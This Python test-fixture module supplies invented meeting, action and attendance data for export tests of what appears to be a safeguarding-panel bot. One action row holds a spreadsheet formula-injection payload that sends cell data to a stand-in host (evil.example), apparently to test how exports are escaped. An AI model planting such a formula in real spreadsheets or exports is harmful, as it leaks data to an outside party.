"""Read models for the export tests, built from literals.

All data is invented: case references CR-0001 and up, initials, and people who do not
exist. The renderers are pure, so nothing here touches a store.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from typing import Any

from bot.domain.model import (
    ActionStatus,
    AttendanceStatus,
    ChallengeStatus,
    EntryKind,
    ItemKind,
    ItemStatus,
    MeetingStatus,
    MinutesStatus,
    RoundStatus,
    TurnOutcome,
)
from bot.domain.views import (
    ActionView,
    AgencyView,
    AttendanceView,
    ChallengeView,
    EntryView,
    ItemView,
    LocalityView,
    MeetingView,
    MinutesDocumentView,
    OutstandingActionRow,
    PreviousMinutesView,
    RoundTurnView,
    RoundView,
)

# 10:00 GMT on a Thursday in November; the download happens at 14:05 the same day.
MEETING_START = datetime(2026, 11, 19, 10, 0, tzinfo=UTC)
GENERATED_AT = datetime(2026, 11, 19, 14, 5, tzinfo=UTC)

POLICE = AgencyView(1, "POL", "North Yorkshire Police", is_key=True)
SOCIAL_CARE = AgencyView(2, "CSC", "Children's Social Care", is_key=True)
EDUCATION = AgencyView(3, "EDU", "Education", is_key=True)
HEALTH = AgencyView(4, "HLT", "Health (0-19 service)", is_key=True)
YOUTH_JUSTICE = AgencyView(5, "YJS", "Youth Justice Service")
CHARITY = AgencyView(6, "TCS", "The Children's Society")
AGENCIES = (POLICE, SOCIAL_CARE, EDUCATION, HEALTH, YOUTH_JUSTICE, CHARITY)

ITEM_TITLES: tuple[tuple[ItemKind, str], ...] = (
    (ItemKind.WELCOME, "Welcome, attendance and confidentiality"),
    (ItemKind.PREVIOUS_MINUTES, "Minutes of the last meeting"),
    (ItemKind.PREVIOUS_ACTIONS, "Review of previous actions"),
    (ItemKind.CHILDREN, "Children discussed"),
    (ItemKind.PERSONS_OF_CONCERN, "Persons of concern"),
    (ItemKind.LOCATIONS, "Locations of concern"),
    (ItemKind.COMMUNITY_INTELLIGENCE, "Community intelligence, themes and trends"),
    (ItemKind.ESCALATIONS, "Escalations"),
    (ItemKind.ACTIONS_AND_NEXT, "Actions and date of next meeting"),
)


def outstanding_row(action_id: int, **changes: Any) -> OutstandingActionRow:
    row = OutstandingActionRow(
        id=action_id,
        locality="Scarborough",
        description=f"Share the safety plan for action {action_id} with the school",
        owner_name="Priya Fictional",
        agency_name=SOCIAL_CARE.name,
        due_date=date(2026, 11, 30),
        status=ActionStatus.OPEN,
        subject="CR-0001 (A.B.)",
        raised_on=date(2026, 10, 15),
        days_overdue=0,
        escalated=False,
        last_update="Spoke to the head of year; meeting booked.",
        last_update_at=datetime(2026, 11, 12, 9, 30, tzinfo=UTC),
    )
    return replace(row, **changes)


def outstanding_rows() -> tuple[OutstandingActionRow, ...]:
    """Five rows in the order a service would sort them, with the awkward cases."""
    return (
        outstanding_row(
            12,
            due_date=date(2026, 11, 2),
            days_overdue=13,
            escalated=True,
            description='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        ),
        outstanding_row(
            7,
            locality="Ryedale",
            due_date=date(2026, 11, 16),
            days_overdue=3,
            owner_name="Dan Madeup",
            agency_name=POLICE.name,
            subject="Location: Harbour Arcade",
            description="+44 7700 900123 to be checked against intelligence",
            last_update="@SUM(1+1) looked at",
        ),
        outstanding_row(
            31,
            due_date=date(2026, 11, 20),
            subject=None,
            raised_on=None,
            description="-1 visits recorded; confirm with 0-19 service",
            last_update="",
            last_update_at=None,
        ),
        outstanding_row(
            40,
            due_date=date(2026, 12, 3),
            subject="CR-0002 (C.D.)",
            description='\tTabbed text and\r\na second line, "quoted", with commas',
            last_update="\rStarts with a carriage return",
            last_update_at=datetime(2026, 7, 1, 9, 0, tzinfo=UTC),  # 10:00 BST
        ),
        outstanding_row(
            41,
            due_date=date(2026, 12, 10),
            subject="CR-0003 (E.F.)",
            description="Plain text: ask licensing about the takeaway's late licence",
            last_update="#N/A is not an error here",
        ),
    )


def _entry(entry_id: int, text: str, kind: EntryKind = EntryKind.MINUTE) -> EntryView:
    return EntryView(id=entry_id, kind=kind, text=text, author_name="Mina Minutetaker")


def make_items(
    *,
    minutes_per_item: int = 1,
    actions_per_item: int = 1,
    minute_chars: int = 0,
) -> tuple[tuple[ItemView, ...], tuple[tuple[int, tuple[EntryView, ...]], ...]]:
    """The nine canonical items, each with minutes and actions, and the minutes list."""
    items: list[ItemView] = []
    minutes: list[tuple[int, tuple[EntryView, ...]]] = []
    action_id = 100
    for position, (kind, title) in enumerate(ITEM_TITLES, start=1):
        item_id = 500 + position
        entries = []
        for n in range(1, minutes_per_item + 1):
            text = f"Minute {n} of item {position}: partners discussed {title.lower()}."
            if minute_chars:
                text = (text + " " + "Lorem ipsum dolor sit amet. " * 40)[:minute_chars]
            entries.append(_entry(position * 1000 + n, text))
        minutes.append((item_id, tuple(entries)))
        actions = []
        for n in range(actions_per_item):
            action_id += 1
            actions.append(
                ActionView(
                    id=action_id,
                    description=f"Action {action_id} agreed under item {position}",
                    owner_name="Priya Fictional" if n % 2 == 0 else "Dan Madeup",
                    agency_name=SOCIAL_CARE.name if n % 2 == 0 else POLICE.name,
                    due_date=date(2026, 12, 1) + timedelta(days=n % 20),
                    status=ActionStatus.OPEN,
                    subject=f"CR-{position:04d} (A.B.)" if kind == ItemKind.CHILDREN else None,
                    raised_on=date(2026, 11, 19),
                )
            )
        decisions: tuple[EntryView, ...] = ()
        if kind in (ItemKind.CHILDREN, ItemKind.LOCATIONS):
            decisions = (
                _entry(9000 + position, f"Decision on item {position}", EntryKind.DECISION),
            )
        items.append(
            ItemView(
                id=item_id,
                position=position,
                kind=kind,
                title=title,
                guidance="Chair's prompt: never printed in the minutes",
                time_limit_minutes=10,
                status=ItemStatus.DONE,
                elapsed_seconds=(position * 97) if position != 4 else 754,
                minutes_count=len(entries),
                decisions=decisions,
                actions=tuple(actions),
            )
        )
    return tuple(items), tuple(minutes)


def make_meeting(
    *,
    items: tuple[ItemView, ...],
    minutes_status: MinutesStatus = MinutesStatus.DRAFT,
) -> MeetingView:
    return MeetingView(
        id=42,
        locality=LocalityView(1, "Scarborough"),
        status=MeetingStatus.ENDED,
        started_at=MEETING_START,
        ended_at=MEETING_START + timedelta(hours=1, minutes=45),
        chair_name="Chris Chairperson",
        items=items,
        current_position=None,
        attendance=(
            AttendanceView(POLICE, AttendanceStatus.PRESENT, "Dan Madeup"),
            AttendanceView(
                SOCIAL_CARE, AttendanceStatus.SUBSTITUTE, "Priya Fictional for Al Other"
            ),
            AttendanceView(EDUCATION, AttendanceStatus.APOLOGIES, "Ed Ucation"),
            AttendanceView(HEALTH, None),
            AttendanceView(YOUTH_JUSTICE, AttendanceStatus.PRESENT, "Yas Justice"),
            AttendanceView(CHARITY, AttendanceStatus.PRESENT, "Tess Charity"),
        ),
        missing_key_agencies=(EDUCATION, HEALTH),
        previous_open_actions=(),
        previous_minutes=PreviousMinutesView(41, date(2026, 10, 15), MinutesStatus.DRAFT, 2, 3),
        agencies=AGENCIES,
        next_meeting_date=date(2026, 12, 17),
        minutes_status=minutes_status,
    )


def make_round(item: ItemView) -> RoundView:
    return RoundView(
        id=7,
        meeting_id=42,
        locality_name="Scarborough",
        item_position=item.position,
        item_title=item.title,
        status=RoundStatus.CLOSED,
        turns=(
            RoundTurnView(POLICE, TurnOutcome.SHARED, "Two sightings near the arcade.", "Dan"),
            RoundTurnView(
                SOCIAL_CARE,
                TurnOutcome.CHALLENGE,
                "Plan lacks a school contact.",
                "Priya",
                challenge_to=EDUCATION.name,
            ),
            RoundTurnView(EDUCATION, TurnOutcome.NOT_PRESENT),
            RoundTurnView(CHARITY, TurnOutcome.NOTHING_TO_SHARE, answered_by="Tess"),
        ),
        agencies=AGENCIES,
    )


CHALLENGE = ChallengeView(
    id=3,
    raised_by_agency=SOCIAL_CARE.name,
    raised_by_name="Priya Fictional",
    to_agency=EDUCATION.name,
    about="CR-0004 (A.B.)",
    text="The plan lacks a school contact.",
    status=ChallengeStatus.RESOLVED,
    response="Education will name a designated safeguarding lead.",
    resolution="Agreed at the meeting; action A-104 raised.",
    item_title="Children discussed",
)

PLAN_CHALLENGE = ChallengeView(
    id=4,
    raised_by_agency=CHARITY.name,
    raised_by_name="Tess Charity",
    to_agency=None,
    about="Locations",
    text="Disruption at the arcade has not worked.",
    status=ChallengeStatus.ESCALATED,
    response="",
    resolution="",
    item_title="Locations of concern",
)


def make_minutes(
    *,
    minutes_status: MinutesStatus = MinutesStatus.DRAFT,
    minutes_per_item: int = 1,
    actions_per_item: int = 1,
    minute_chars: int = 0,
) -> MinutesDocumentView:
    items, minutes = make_items(
        minutes_per_item=minutes_per_item,
        actions_per_item=actions_per_item,
        minute_chars=minute_chars,
    )
    meeting = make_meeting(items=items, minutes_status=minutes_status)
    return MinutesDocumentView(
        meeting=meeting,
        minutes=minutes,
        rounds=(make_round(items[3]),),
        challenges=(CHALLENGE, PLAN_CHALLENGE),
        generated_at=GENERATED_AT,
        generated_for="Sam Coordinator",
    )
